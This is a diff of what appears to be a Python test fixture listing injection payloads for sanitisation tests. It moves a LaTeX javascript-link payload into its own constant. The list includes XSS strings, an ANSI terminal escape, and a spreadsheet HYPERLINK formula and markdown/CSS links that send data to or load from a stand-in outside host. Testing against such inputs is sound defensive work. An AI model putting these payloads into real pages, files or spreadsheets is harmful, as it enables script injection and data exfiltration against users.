@@ -18,14 +18,15 @@ FORMULA = f'=HYPERLINK("http://{OUTSIDE}/?x="&A1,"click")'
 ANSI = "\x1b]0;owned\x07\x1b[2J\x1b[31mred"
 ARABIC, EMOJI = "إدارة المشتريات", "🚀 Rocket team"
 LONG = ("Directorate for the coordination of everything " * 7)[:300]
+LATEX = f"$\\href{{javascript:{MARK}}}{{x}}$ \\(\\alpha\\) $$\\frac{{$$ $\\frac{{$"
 ATTACKS = (
     SCRIPT,
+    LATEX,
     f'"><img src=x onerror="{MARK}">',
     FORMULA,
     ANSI,
     f"</td></table></div></script></style></textarea></title><svg/onload={MARK}>",
     f"[click](javascript:{MARK}) ![i](http://{OUTSIDE}/md.png) **bold** `code` <http://{OUTSIDE}>",
-    f"$\\href{{javascript:{MARK}}}{{x}}$ \\(\\alpha\\) $$\\frac{{$$ $\\frac{{$",
     f'<a href="javascript:{MARK}" autofocus onfocus="{MARK}" onmouseover="{MARK}">x</a>',
     f"<iframe srcdoc='<script>parent.__mark=1</script>'></iframe><object data='http://{OUTSIDE}/o'></object>",
     f"<style>@import 'http://{OUTSIDE}/s.css'</style><link rel=stylesheet href=http://{OUTSIDE}/l>",
